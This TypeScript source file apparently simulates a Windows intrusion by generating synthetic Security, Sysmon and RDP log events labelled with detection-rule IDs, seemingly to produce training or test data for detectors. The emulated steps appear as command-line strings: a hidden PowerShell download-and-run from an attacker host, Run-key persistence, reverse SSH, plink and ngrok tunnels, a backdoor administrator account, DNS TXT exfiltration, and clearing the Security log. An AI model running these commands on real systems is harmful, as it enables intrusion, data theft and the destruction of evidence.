import type { Machine, Process, Session } from './machine.ts';
import type { Desk } from './noise-workstation.ts';
import { PROGRAMS } from './programs.ts';
import { story } from './recorder.ts';
import { RULES } from './rule-ids.ts';
import {
  explicitCredentials,
  filteringConnection,
  groupMemberAdded,
  logCleared,
  loggedOff,
  loggedOn,
  specialPrivileges,
  userCreated,
} from './channels/security.ts';
import { connected, fileCreated, lookedUp, valueSet } from './channels/sysmon.ts';
import { rdpAuthenticated, rdpSession, scriptBlock } from './channels/windows-logs.ts';
import { at, ATTACKER, HOSTS, MINUTE, SECOND, USERS, type User } from './world.ts';

const PLAIN = story();

const HELPDESK: User = { name: 'helpdesk2', domain: 'JUMP01', sid: 'S-1-5-21-2003817745-1120394475-740023187-1004' };

/** Takes the bait: document, script, implant. Gives the implant's process. */
export function phishing(desk: Desk, timeUs: number, implantFile: 'implant' | 'implantDeveloper'): Process {
  const { machine, outlook, user } = desk;
  const document = `C:\\Users\\${user.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K2P7XW1Q\\Parcel 88213.docm`;
  fileCreated(machine, timeUs, outlook, document, PLAIN);
  const word = machine.start(timeUs + 6 * SECOND, PROGRAMS.word, outlook, {
    commandLine: `"${PROGRAMS.word.path}" /n "${document}" /o ""`,
    livesUs: 12 * MINUTE,
    label: PLAIN,
  });
  const implant = PROGRAMS[implantFile];
  const fetch = `Invoke-WebRequest -UseBasicParsing https://${ATTACKER.delivery.name}/view -OutFile $env:TEMP\\parcelview.exe; Start-Process $env:TEMP\\parcelview.exe`;
  const shell = machine.start(timeUs + 31 * SECOND, PROGRAMS.powershell, word, {
    commandLine: `powershell.exe -NoProfile -WindowStyle Hidden -Command "${fetch}"`,
    livesUs: 20 * SECOND,
    label: PLAIN,
  });
  scriptBlock(machine, timeUs + 32 * SECOND, shell, fetch, '', PLAIN);
  const { name, ip } = ATTACKER.delivery;
  lookedUp(machine, timeUs + 33 * SECOND, shell, { name, results: `::ffff:${ip};` }, PLAIN);
  connected(machine, timeUs + 34 * SECOND, shell, { to: { ip, name, port: 443 } }, PLAIN);
  fileCreated(machine, timeUs + 36 * SECOND, shell, implant.path, PLAIN);
  const started = machine.start(timeUs + 38 * SECOND, implant, shell, {
    commandLine: `"${implant.path}" `,
    label: PLAIN,
  });
  valueSet(
    machine,
    timeUs + 41 * SECOND,
    started,
    { path: `HKU\\${user.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\ParcelView`, details: implant.path },
    PLAIN,
  );
  return started;
}

/** The implant calls home, at even distances. */
export function beacon(machine: Machine, implant: Process, fromUs: number, toUs: number, everyUs: number): void {
  const { name, ip } = ATTACKER.beacon;
  for (let timeUs = fromUs; timeUs < toUs; timeUs += everyUs + machine.random.int(-20 * SECOND, 20 * SECOND)) {
    if (machine.random.chance(0.3))
      lookedUp(machine, timeUs - SECOND, implant, { name, results: `::ffff:${ip};` }, PLAIN);
    connected(machine, timeUs, implant, { to: { ip, name, port: 443 } }, PLAIN);
  }
}

export function discovery(machine: Machine, implant: Process, fromUs: number): void {
  const commands = [
    [PROGRAMS.whoami, 'whoami /all'],
    [PROGRAMS.ipconfig, 'ipconfig /all'],
    [PROGRAMS.systeminfo, 'systeminfo'],
    [PROGRAMS.net, 'net  group "Domain Admins" /domain'],
    [PROGRAMS.nltest, 'nltest  /dclist:harborline.example'],
    [PROGRAMS.net, 'net  view \\\\SRV-FILE01'],
    [PROGRAMS.quser, 'quser  /server:JUMP01'],
  ] as const;
  commands.forEach(([program, commandLine], i) => {
    const timeUs = fromUs + i * 95 * SECOND + machine.random.int(0, 30 * SECOND);
    const shell = machine.start(timeUs, PROGRAMS.cmd, implant, {
      commandLine: `C:\\Windows\\system32\\cmd.exe /c ${commandLine}`,
      livesUs: 4 * SECOND,
      label: PLAIN,
    });
    machine.start(timeUs + 50_000, program, shell, { commandLine, livesUs: 3 * SECOND, label: PLAIN });
  });
}

/** Somebody comes in through the far end of a forwarded port: all three logs that tell of it. */
function loopbackLogon(machine: Machine, timeUs: number, user: User, ip: '127.0.0.1' | '::1'): Session {
  const session = machine.session(timeUs, user, 3);
  const termService = machine.serviceHost('termsvcs -s TermService', 'network');
  const port = machine.random.int(50_000, 64_000);
  const connection = { to: { ip, port }, fromIp: ip, fromPort: 3389, initiated: false };
  connected(machine, timeUs - SECOND, termService, connection, story(RULES.rdpLoopbackPeer));
  rdpAuthenticated(machine, timeUs - SECOND / 2, session, ip, PLAIN);
  loggedOn(machine, timeUs, session, { type: 10, ip, process: termService }, story(RULES.rdpLoopbackLogon));
  if (user === USERS.admin) specialPrivileges(machine, timeUs, session, PLAIN);
  rdpSession(machine, timeUs + SECOND, session, { eventId: 21, ip }, PLAIN);
  return session;
}

function desktop(machine: Machine, timeUs: number, session: Session): Process {
  const winlogon = machine.running(PROGRAMS.winlogon, undefined, { commandLine: 'winlogon.exe' });
  const integrity = session.user === USERS.orlova ? 'Medium' : 'High';
  const options = { session, integrity, folder: 'C:\\Windows\\system32\\', label: PLAIN };
  const userinit = machine.start(timeUs, PROGRAMS.userinit, winlogon, {
    ...options,
    commandLine: 'C:\\Windows\\system32\\userinit.exe',
    livesUs: 25 * SECOND,
  });
  return machine.start(timeUs + SECOND, PROGRAMS.explorer, userinit, {
    ...options,
    commandLine: 'C:\\Windows\\Explorer.EXE',
  });
}

/** Plink sends the relay's port 13389 back to this workstation's remote desktop. Gives the desktop behind it. */
export function plinkTunnel(
  machine: Machine,
  implant: Process,
  timeUs: number,
): { session: Session; explorer: Process } {
  const { name, ip } = ATTACKER.relay;
  fileCreated(machine, timeUs - 70 * SECOND, implant, PROGRAMS.plink.path, PLAIN);
  const shell = machine.start(timeUs - SECOND, PROGRAMS.cmd, implant, {
    commandLine: `C:\\Windows\\system32\\cmd.exe /c echo y | plink.exe -N -R 13389:127.0.0.1:3389 -l tun -P 443 ${name}`,
    folder: 'C:\\ProgramData\\Printing\\',
    label: PLAIN,
  });
  const plink = machine.start(timeUs, PROGRAMS.plink, shell, {
    commandLine: `plink.exe  -N -R 13389:127.0.0.1:3389 -l tun -P 443 ${name}`,
    label: story(RULES.plinkForward),
  });
  lookedUp(machine, timeUs + SECOND, plink, { name, results: `::ffff:${ip};` }, PLAIN);
  connected(machine, timeUs + 2 * SECOND, plink, { to: { ip, name, port: 443 } }, PLAIN);
  const logonUs = timeUs + 14 * MINUTE;
  for (let hop = 0; hop < 3; hop++) {
    const to = { ip: '127.0.0.1', port: 3389 };
    connected(machine, logonUs - (4 - hop) * SECOND, plink, { to, fromIp: '127.0.0.1' }, PLAIN);
  }
  const session = loopbackLogon(machine, logonUs, USERS.orlova, '127.0.0.1');
  return { session, explorer: desktop(machine, logonUs + 3 * SECOND, session) };
}

/** From the first victim to the jump host with a stolen administrator's password, and a second way out there. */
export function jumpHost(
  victim: Machine,
  from: { session: Session; explorer: Process },
  jump: Machine,
  timeUs: number,
): Process {
  const { fqdn, ip } = HOSTS.jump;
  const client = victim.start(timeUs, PROGRAMS.mstsc, from.explorer, {
    commandLine: `"${PROGRAMS.mstsc.path}" /v:${fqdn}`,
    label: PLAIN,
    livesUs: 80 * MINUTE,
  });
  explicitCredentials(
    victim,
    timeUs + 9 * SECOND,
    from.session,
    { target: USERS.admin, server: fqdn, process: client },
    PLAIN,
  );
  connected(victim, timeUs + 10 * SECOND, client, { to: { ip, name: fqdn, port: 3389 } }, PLAIN);

  const session = jump.session(timeUs, USERS.admin, 4);
  const termService = jump.serviceHost('termsvcs -s TermService', 'network');
  const peer = { ip: HOSTS.victim.ip, name: HOSTS.victim.fqdn, port: 51_877 };
  connected(jump, timeUs + 10 * SECOND, termService, { to: peer, fromPort: 3389, initiated: false }, PLAIN);
  rdpAuthenticated(jump, timeUs + 11 * SECOND, session, HOSTS.victim.ip, PLAIN);
  loggedOn(jump, timeUs + 12 * SECOND, session, { type: 10, ip: HOSTS.victim.ip, process: termService }, PLAIN);
  specialPrivileges(jump, timeUs + 12 * SECOND, session, PLAIN);
  rdpSession(jump, timeUs + 13 * SECOND, session, { eventId: 21, ip: HOSTS.victim.ip }, PLAIN);
  const explorer = desktop(jump, timeUs + 15 * SECOND, session);
  const shell = jump.start(timeUs + 3 * MINUTE, PROGRAMS.cmd, explorer, {
    commandLine: '"C:\\Windows\\system32\\cmd.exe" ',
    folder: 'C:\\Users\\adm.nkosi\\',
    label: PLAIN,
  });
  const start = (afterUs: number, options: string, ...hits: string[]): void => {
    const { name, ip: to } = ATTACKER.ssh;
    const key = 'C:\\ProgramData\\ssh\\backup_key';
    const ssh = jump.start(timeUs + afterUs, PROGRAMS.ssh, shell, {
      commandLine: `ssh  -N ${options} -i ${key} -o StrictHostKeyChecking=no tun@${name}`,
      label: story(...hits),
    });
    lookedUp(jump, timeUs + afterUs + SECOND, ssh, { name, results: `::ffff:${to};` }, PLAIN);
    connected(jump, timeUs + afterUs + 2 * SECOND, ssh, { to: { ip: to, name, port: 22 } }, PLAIN);
  };
  start(5 * MINUTE, '-R 23389:127.0.0.1:3389', RULES.sshReverseRdp);
  start(26 * MINUTE, '-R 24389:10.20.1.20:3389', RULES.sshReverseRdp);
  start(31 * MINUTE, '-D 1080', RULES.sshLocalForward);
  return shell;
}

/** Back over the second tunnel, with a local account made for later. */
export function jumpHostReturn(jump: Machine, timeUs: number): { session: Session; explorer: Process } {
  const session = loopbackLogon(jump, timeUs, USERS.admin, '127.0.0.1');
  const explorer = desktop(jump, timeUs + 3 * SECOND, session);
  const make = ['net  user helpdesk2 Welcome-2026! /add', 'net  localgroup Administrators helpdesk2 /add'];
  make.forEach((commandLine, i) => {
    const shellUs = timeUs + (4 + i) * MINUTE;
    jump.start(shellUs, PROGRAMS.net, explorer, { commandLine, livesUs: SECOND, label: PLAIN });
  });
  userCreated(jump, timeUs + 4 * MINUTE, session, HELPDESK, PLAIN);
  const change = { member: HELPDESK, group: 'Administrators', groupSid: 'S-1-5-32-544' };
  groupMemberAdded(jump, timeUs + 5 * MINUTE, session, change, PLAIN);
  return { session, explorer };
}

/** Data leaves the second victim in the names of TXT queries. */
export function dnsTunnel(machine: Machine, implant: Process, fromUs: number, queries: number): void {
  const { random } = machine;
  let timeUs = fromUs;
  const shell = machine.start(timeUs - SECOND, PROGRAMS.cmd, implant, {
    commandLine: 'C:\\Windows\\system32\\cmd.exe /c %TEMP%\\q.cmd',
    label: PLAIN,
  });
  for (let query = 0; query < queries; query++) {
    timeUs += random.int(2 * SECOND, 9 * SECOND);
    const name = `${random.text('abcdefghijklmnopqrstuvwxyz234567', random.int(44, 60))}.${ATTACKER.dnsZone}`;
    const commandLine = `nslookup  ${query % 3 === 0 ? '-type=TXT' : '-q=txt'} ${name}`;
    const label = story(RULES.nslookupTunnel);
    const nslookup = machine.start(timeUs, PROGRAMS.nslookup, shell, { commandLine, livesUs: SECOND, label });
    if (query % 4 === 0) lookedUp(machine, timeUs + 200_000, nslookup, { name, results: 'type:  16 ;' }, PLAIN);
  }
  machine.stop(timeUs + 5 * SECOND, shell, PLAIN);
}

/** The file server at night: from the jump host, ngrok publishes its remote desktop; then traces are removed. */
export function fileServerNight(from: { jump: Machine; explorer: Process; session: Session }, server: Machine): void {
  const startUs = at(2, '02:10:00');
  const { fqdn, ip } = HOSTS.server;
  const client = from.jump.start(startUs, PROGRAMS.mstsc, from.explorer, {
    commandLine: `"${PROGRAMS.mstsc.path}" /v:${fqdn}`,
    livesUs: 100 * MINUTE,
    label: PLAIN,
  });
  explicitCredentials(
    from.jump,
    startUs + 4 * SECOND,
    from.session,
    { target: USERS.admin, server: fqdn, process: client },
    PLAIN,
  );
  connected(from.jump, startUs + 5 * SECOND, client, { to: { ip, name: fqdn, port: 3389 } }, PLAIN);

  const session = server.session(startUs, USERS.admin, 2);
  const termService = server.serviceHost('termsvcs -s TermService', 'network');
  const peer = { ip: HOSTS.jump.ip, name: HOSTS.jump.fqdn, port: 55_310 };
  connected(server, startUs + 5 * SECOND, termService, { to: peer, fromPort: 3389, initiated: false }, PLAIN);
  rdpAuthenticated(server, startUs + 6 * SECOND, session, HOSTS.jump.ip, PLAIN);
  loggedOn(server, startUs + 7 * SECOND, session, { type: 10, ip: HOSTS.jump.ip, process: termService }, PLAIN);
  rdpSession(server, startUs + 8 * SECOND, session, { eventId: 21, ip: HOSTS.jump.ip }, PLAIN);
  const explorer = desktop(server, startUs + 10 * SECOND, session);
  fileCreated(server, startUs + 4 * MINUTE, explorer, PROGRAMS.ngrok.path, PLAIN);
  const shell = server.start(startUs + 5 * MINUTE, PROGRAMS.cmd, explorer, {
    commandLine: '"C:\\Windows\\system32\\cmd.exe" ',
    folder: 'C:\\Users\\Public\\',
    label: PLAIN,
  });
  ngrok(server, shell, startUs + 6 * MINUTE);
  portProxy(server, shell, startUs + 31 * MINUTE);
  clearAndReturn(server, shell, at(2, '03:40:00'));
}

function ngrok(server: Machine, shell: Process, timeUs: number): void {
  const token = 'ngrok.exe  config add-authtoken 2example0000token';
  server.start(timeUs, PROGRAMS.ngrok, shell, { commandLine: token, livesUs: SECOND, label: PLAIN });
  const clients = [
    [PROGRAMS.ngrok, 'ngrok.exe  tcp 3389 --region us'],
    [PROGRAMS.renamedNgrok, 'C:\\ProgramData\\Printing\\spoolhlp.exe tcp 10.20.1.10:3389'],
  ] as const;
  clients.forEach(([program, commandLine], i) => {
    const startUs = timeUs + (2 + i * 17) * MINUTE;
    if (i === 1) fileCreated(server, startUs - 20 * SECOND, shell, program.path, PLAIN);
    const client = server.start(startUs, program, shell, { commandLine, label: story(RULES.tunnelClient) });
    for (const [n, { name, ip }] of [ATTACKER.ngrok, ATTACKER.ngrokTunnel].entries()) {
      const nameUs = startUs + (n + 1) * SECOND;
      lookedUp(server, nameUs, client, { name, results: `::ffff:${ip};` }, story(RULES.tunnelLookup));
      connected(server, nameUs + 60_000, client, { to: { ip, name, port: 443 } }, story(RULES.tunnelConnection));
    }
  });
}

function portProxy(server: Machine, shell: Process, timeUs: number): void {
  const netsh = server.start(timeUs, PROGRAMS.netsh, shell, {
    commandLine:
      'netsh  interface portproxy add v4tov4 listenport=8443 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.20.1.10',
    livesUs: SECOND,
    label: PLAIN,
  });
  valueSet(
    server,
    timeUs + 300_000,
    netsh,
    {
      path: 'HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp\\0.0.0.0/8443',
      details: '10.20.1.10/3389',
    },
    story(RULES.portProxy),
  );
}

/** The Security log is emptied, and soon after the way in over ngrok is tried: that logon is the first one left. */
function clearAndReturn(server: Machine, shell: Process, timeUs: number): void {
  const commandLine = 'wevtutil  cl Security';
  server.start(timeUs - SECOND, PROGRAMS.wevtutil, shell, { commandLine, livesUs: 2 * SECOND, label: PLAIN });
  server.recorder.clear('Security', timeUs);
  logCleared(server, timeUs, shell.session, PLAIN);
  const session = loopbackLogon(server, timeUs + 9 * MINUTE, USERS.admin, '::1');
  desktop(server, timeUs + 9 * MINUTE + 4 * SECOND, session);
  rdpSession(server, timeUs + 34 * MINUTE, session, { eventId: 24, ip: '::1' }, PLAIN);
}

/** What the domain controller saw of it. */
export function controllerSide(controller: Machine): void {
  const timeUs = at(2, '02:52:00');
  const session = controller.session(timeUs, USERS.admin, 0);
  const { ip } = HOSTS.server;
  const termService = controller.serviceHost('termsvcs -s TermService', 'network');
  filteringConnection(
    controller,
    timeUs - SECOND,
    termService,
    { ip, port: 58_120, localPort: 3389, inbound: true },
    PLAIN,
  );
  loggedOn(controller, timeUs, session, { type: 10, ip, process: termService }, PLAIN);
  specialPrivileges(controller, timeUs, session, PLAIN);
  loggedOff(controller, timeUs + 26 * MINUTE, session, 10, PLAIN);
}
